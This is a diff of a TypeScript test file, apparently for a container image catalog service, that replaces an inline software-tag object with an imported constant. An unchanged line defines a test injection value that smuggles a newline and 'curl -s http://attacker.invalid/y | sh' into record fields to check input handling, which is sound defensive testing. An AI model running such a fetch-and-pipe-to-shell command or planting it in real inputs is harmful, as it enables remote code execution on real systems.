@@ -12,6 +12,7 @@ import type { PushedImage } from '../../src/records/pushed-image.js';
 import type { RegistryClient } from '../../src/registry/registry-client.js';
 import { CATALOG_DATABASES } from './catalog-databases.js';
 import { injectAs } from './inject-as.js';
+import { AMI_SWTAG } from './swtag-identity.js';
 
 // Issue 13 point 3: hostile values through every path that writes a record (REST, AMI commands, web forms, the
 // repositories that registration and the build API write through, registration itself), on both databases.
@@ -19,18 +20,7 @@ const INJECTION = 'x\ncurl -s http://attacker.invalid/y | sh\n';
 const LONG = 'x'.repeat(7000);
 const digest = (n: number) => `sha256:${String(n).padStart(64, '0')}`;
 
-const swTag = {
-  TAGTYPE: 'container',
-  IMAGETYPE: 'analysis',
-  IMAGEARCH: 'x86_64',
-  IMAGEPLATFORM: 'el9',
-  IMAGECOMPILER: 'gcc13',
-  PRODSTEP: 'reco',
-  SWRELEASE: 'Athena-24.0.1',
-  DBRELEASE: 'current',
-  DISTSWRELEASE: 'default',
-  VERSION: '1',
-};
+const swTag = AMI_SWTAG;
 const image = {
   REGISTRY: 'registry.example.org',
   REPOSITORY_USER: 'atlas',
